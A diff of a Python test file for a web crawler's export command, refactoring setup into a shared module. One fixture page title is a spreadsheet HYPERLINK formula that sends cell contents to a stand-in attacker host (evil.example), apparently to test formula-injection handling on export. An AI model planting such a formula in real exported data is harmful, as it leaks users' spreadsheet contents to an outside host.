@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 from browser_fixtures import command
-from warc_records import response_record
+from tea_web import HOST, ONTOLOGY, crawled_tea, start
 
 from cli.exchange.export import Form, Pages, run
 from cli.exchange.importing import Import
@@ -29,18 +29,9 @@ from semantic.parsing.page_reader import read_page
 pytestmark = pytest.mark.slow
 
 HTML = {"content-type": "text/html; charset=utf-8"}
-HOST = "http://tea.example:8080"
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,'x')"
-ONTOLOGY = """@prefix : <http://onto.example/tea#> .
-@prefix owl: <http://www.w3.org/2002/07/owl#> .
-@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
-@prefix oc: <https://w3id.org/ontocrawl#> .
-<http://onto.example/tea> a owl:Ontology ; oc:topic :Tea .
-:Tea a owl:Class ; rdfs:label "tea"@en , "茶"@zh ; oc:weight 1.0 .
-:Green a owl:Class ; rdfs:subClassOf :Tea ; rdfs:label "green tea"@en , "绿茶"@zh ; oc:weight 1.0 .
-"""
 PAGES = {
-    "/": ("Start", "".join(f'<a href="/{name}">{name} green tea</a> ' for name in ("green", "zh", "evil", "cars"))),
+    "/": start("green", "zh", "evil", "cars"),
     "/green": ("Green tea", "<h1>All of green tea</h1><p>Green <b>tea</b> is <strong>tea</strong>.</p>" * 3),
     "/zh": ("绿茶", "<h2>绿茶</h2><p>绿茶是未发酵的茶。<a href='/more?a=1&amp;b=\"x\"' title='t'>更多绿茶</a></p>" * 3),
     "/evil": (FORMULA, "<p>Green tea &lt;script&gt; & \x0b tea.</p>" * 3),
@@ -48,28 +39,11 @@ PAGES = {
 }
 
 
-def head(html: bytes) -> bytes:
-    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(html)
-
-
 @pytest.fixture(scope="module")
 def store(tmp_path_factory) -> Iterator[str]:
     """A small crawl, its server kept open for all tests of this file."""
-    made = tmp_path_factory.mktemp("exchange")
-    (made / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
-    records = []
-    for path, (title, body) in PAGES.items():
-        html = f"<html><head><title>{title.replace('<', '&lt;')}</title></head><body>{body}</body></html>".encode()
-        records.append(response_record(HOST + path, head(html) + html))
-    (made / "web.warc").write_bytes(b"".join(records))
-    given = (
-        f"--ontology tea.ttl --seeds {HOST}/ --archive web.warc --store store --max-pages 5 --threshold 0.2 --lang en"
-    )
-    with contextlib.closing(open_store(str(made / "store"))):
-        with command(made, "crawl", *given.split(), "--delay", "0", "--connections", "1") as crawl:
-            _, told = crawl.communicate(timeout=60)
-        assert crawl.returncode == 0, told
-        yield str(made / "store")
+    with crawled_tea(tmp_path_factory.mktemp("exchange"), PAGES, threshold=0.2) as kept:
+        yield kept
 
 
 def asked(store: str, cypher: str) -> list[dict]:
